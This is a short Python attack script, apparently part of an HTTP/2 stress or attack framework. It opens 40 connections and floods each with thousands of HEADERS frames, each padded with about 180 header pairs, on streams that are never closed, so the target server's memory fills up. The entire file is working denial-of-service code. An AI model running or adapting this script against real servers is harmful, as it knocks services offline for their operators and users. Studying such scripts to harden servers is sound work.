"""As many metadata pairs as a block takes, on many streams that never end."""
from attack_program import MATCH, program
from h2wire import END_HEADERS, HEADERS, frame, literal, request_block

AT_ONCE = 10


def run(attack):
    headers = request_block(MATCH) + b"".join(literal(f"k{i}", "v") for i in range(attack.options.pairs))

    def block(connection, _):
        return b"".join(frame(HEADERS, END_HEADERS, connection.stream(), headers) for _ in range(AT_ONCE))
    attack.flood(block, attack.options.count // AT_ONCE)


if __name__ == "__main__":
    program(__doc__, run, count=20_000, connections=40, megabytes=80, pairs=180)
